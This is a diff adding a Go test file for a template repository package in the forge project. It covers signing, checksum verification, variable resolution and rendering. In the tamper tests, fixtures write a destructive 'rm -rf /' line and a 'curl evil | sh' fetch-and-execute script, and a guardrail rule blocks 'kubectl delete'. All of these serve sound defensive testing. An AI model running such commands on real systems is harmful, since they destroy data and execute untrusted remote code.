@@ -0,0 +1,246 @@
+package templaterepo
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/initializ/forge/forge-skills/trust"
+)
+
+func writeTree(t *testing.T, dir string, files map[string]string) {
+	t.Helper()
+	for rel, content := range files {
+		p := filepath.Join(dir, filepath.FromSlash(rel))
+		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+}
+
+const testManifest = `name: sre
+description: on-call triage for the platform team
+skills: [k8s-incident-triage]
+builtin_tools: [datetime_now]
+guardrail_rules:
+  - id: no_prod_delete
+    name: Production delete
+    type: regex
+    constraint: hard
+    pattern: 'kubectl\s+delete'
+    action: block
+    gates: [tool_call]
+variables:
+  - name: cluster
+    prompt: Cluster to watch
+    required: true
+    pattern: '[a-z0-9-]+'
+  - name: team
+    default: platform
+render:
+  - "*.md"
+`
+
+func testTemplate(t *testing.T) string {
+	t.Helper()
+	dir := t.TempDir()
+	writeTree(t, dir, map[string]string{
+		ManifestName:                testManifest,
+		"forge.yaml":                "schedules:\n  - id: check-{{.Vars.cluster}}\n    cron: \"0 8 * * *\"\n    task: \"Check {{.Vars.cluster}}\"\n",
+		"files/RUNBOOK.md":          "# {{.Name}} runbook for {{.Vars.team}}\n",
+		"files/prompts/system.tmpl": "{{template \"builtin\" .}}\n",
+		"README.md":                 "not part of the template\n",
+	})
+	return dir
+}
+
+func TestSignLoad(t *testing.T) {
+	pub, priv, err := trust.GenerateKeyPair()
+	if err != nil {
+		t.Fatal(err)
+	}
+	kr := trust.NewKeyring()
+	kr.Add("platform", pub)
+
+	dir := testTemplate(t)
+	c, err := Sign(dir, priv, "platform")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, ok := c.Files["README.md"]; ok || len(c.Files) != 4 {
+		t.Errorf("checksummed files = %v", c.Files)
+	}
+
+	tmpl, err := Load(dir, LoadOptions{Keyring: kr, RequireChecksums: true})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !tmpl.Verified || tmpl.KeyID != "platform" {
+		t.Errorf("Verified = %v, KeyID = %q", tmpl.Verified, tmpl.KeyID)
+	}
+	if tmpl.Name != "sre" || len(tmpl.GuardrailRules) != 1 || tmpl.GuardrailRules[0].Pattern != `kubectl\s+delete` {
+		t.Errorf("manifest = %+v", tmpl.Manifest)
+	}
+
+	// An unknown key is rejected.
+	if _, err := Load(dir, LoadOptions{Keyring: trust.NewKeyring(), RequireChecksums: true}); err == nil || !strings.Contains(err.Error(), "no trusted key") {
+		t.Errorf("expected untrusted key error, got %v", err)
+	}
+
+	// So is a file changed after signing, or one added to files/.
+	writeTree(t, dir, map[string]string{"files/RUNBOOK.md": "# rm -rf /\n"})
+	if _, err := Load(dir, LoadOptions{Keyring: kr}); err == nil || !strings.Contains(err.Error(), "checksum mismatch") {
+		t.Errorf("expected checksum mismatch, got %v", err)
+	}
+	writeTree(t, dir, map[string]string{"files/RUNBOOK.md": "# {{.Name}} runbook for {{.Vars.team}}\n", "files/extra.sh": "curl evil | sh\n"})
+	if _, err := Load(dir, LoadOptions{Keyring: kr}); err == nil || !strings.Contains(err.Error(), "not in checksums.json") {
+		t.Errorf("expected unlisted file error, got %v", err)
+	}
+}
+
+func TestLoad_Unsigned(t *testing.T) {
+	dir := testTemplate(t)
+	if _, err := Load(dir, LoadOptions{RequireChecksums: true}); err == nil || !strings.Contains(err.Error(), "forge template sign") {
+		t.Errorf("expected missing checksums error, got %v", err)
+	}
+	tmpl, err := Load(dir, LoadOptions{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if tmpl.Verified {
+		t.Error("template without checksums.json reported as verified")
+	}
+
+	if _, err := Sign(dir, nil, ""); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := Load(dir, LoadOptions{RequireChecksums: true}); err == nil || !strings.Contains(err.Error(), "not signed") {
+		t.Errorf("expected unsigned error, got %v", err)
+	}
+	if _, err := Load(dir, LoadOptions{RequireChecksums: true, AllowUnsigned: true}); err != nil {
+		t.Errorf("AllowUnsigned: %v", err)
+	}
+}
+
+func TestResolve(t *testing.T) {
+	tmpl, err := Load(testTemplate(t), LoadOptions{})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	vars, err := tmpl.Resolve(map[string]string{"cluster": "prod-eu"}, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if vars["cluster"] != "prod-eu" || vars["team"] != "platform" {
+		t.Errorf("vars = %v", vars)
+	}
+
+	if _, err := tmpl.Resolve(nil, nil); err == nil || !strings.Contains(err.Error(), "required") {
+		t.Errorf("expected required error, got %v", err)
+	}
+	if _, err := tmpl.Resolve(map[string]string{"cluster": "Prod EU"}, nil); err == nil || !strings.Contains(err.Error(), "does not match") {
+		t.Errorf("expected pattern error, got %v", err)
+	}
+	if _, err := tmpl.Resolve(map[string]string{"cluster": "prod", "region": "eu"}, nil); err == nil || !strings.Contains(err.Error(), "no variable") {
+		t.Errorf("expected unknown variable error, got %v", err)
+	}
+
+	var asked []string
+	vars, err = tmpl.Resolve(nil, func(v Variable) (string, error) {
+		asked = append(asked, v.Name)
+		if v.Name == "cluster" {
+			return "staging", nil
+		}
+		return "", nil
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if strings.Join(asked, ",") != "cluster,team" || vars["cluster"] != "staging" || vars["team"] != "platform" {
+		t.Errorf("asked = %v, vars = %v", asked, vars)
+	}
+}
+
+func TestRender(t *testing.T) {
+	tmpl, err := Load(testTemplate(t), LoadOptions{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	data := RenderData{Name: "Oncall", AgentID: "oncall", Vars: map[string]string{"cluster": "prod", "team": "sre"}}
+
+	frag, err := tmpl.ForgeYAML(data)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(frag, "id: check-prod") {
+		t.Errorf("forge.yaml fragment = %q", frag)
+	}
+
+	dest := t.TempDir()
+	if err := tmpl.WriteFiles(dest, data); err != nil {
+		t.Fatal(err)
+	}
+	runbook, _ := os.ReadFile(filepath.Join(dest, "RUNBOOK.md"))
+	if string(runbook) != "# Oncall runbook for sre\n" {
+		t.Errorf("RUNBOOK.md = %q", runbook)
+	}
+	// Files outside render are copied verbatim.
+	prompt, _ := os.ReadFile(filepath.Join(dest, "prompts", "system.tmpl"))
+	if string(prompt) != "{{template \"builtin\" .}}\n" {
+		t.Errorf("prompts/system.tmpl = %q", prompt)
+	}
+	if _, err := os.Stat(filepath.Join(dest, "README.md")); !os.IsNotExist(err) {
+		t.Error("README.md outside files/ was copied")
+	}
+
+	// A variable the manifest does not declare fails rendering.
+	data.Vars = map[string]string{"team": "sre"}
+	if _, err := tmpl.ForgeYAML(data); err == nil {
+		t.Error("expected error for a missing variable")
+	}
+}
+
+func TestLoad_InvalidManifest(t *testing.T) {
+	for name, manifest := range map[string]string{
+		"no name":       "description: x\n",
+		"bad variable":  "name: x\nvariables:\n  - name: not-valid\n",
+		"dup variable":  "name: x\nvariables:\n  - name: a\n  - name: a\n",
+		"bad pattern":   "name: x\nvariables:\n  - name: a\n    pattern: '['\n",
+		"bad render":    "name: x\nrender: ['[']\n",
+		"not yaml list": "name: x\nskills: github\n",
+	} {
+		dir := t.TempDir()
+		writeTree(t, dir, map[string]string{ManifestName: manifest})
+		if _, err := Load(dir, LoadOptions{}); err == nil {
+			t.Errorf("%s: expected error", name)
+		}
+	}
+	if _, err := Load(t.TempDir(), LoadOptions{}); err == nil || !strings.Contains(err.Error(), "not a forge template") {
+		t.Errorf("expected not-a-template error, got %v", err)
+	}
+}
+
+func TestSign_Resign(t *testing.T) {
+	dir := testTemplate(t)
+	if _, err := Sign(dir, nil, ""); err != nil {
+		t.Fatal(err)
+	}
+	// Editing a file and signing again replaces the stale checksums.
+	writeTree(t, dir, map[string]string{"files/RUNBOOK.md": "# updated\n"})
+	if _, err := Sign(dir, nil, ""); err != nil {
+		t.Fatalf("re-sign: %v", err)
+	}
+	if _, err := Load(dir, LoadOptions{AllowUnsigned: true}); err != nil {
+		t.Errorf("Load after re-sign: %v", err)
+	}
+
+	writeTree(t, dir, map[string]string{ManifestName: "description: no name\n"})
+	if _, err := Sign(dir, nil, ""); err == nil {
+		t.Error("expected Sign to reject an invalid manifest")
+	}
+}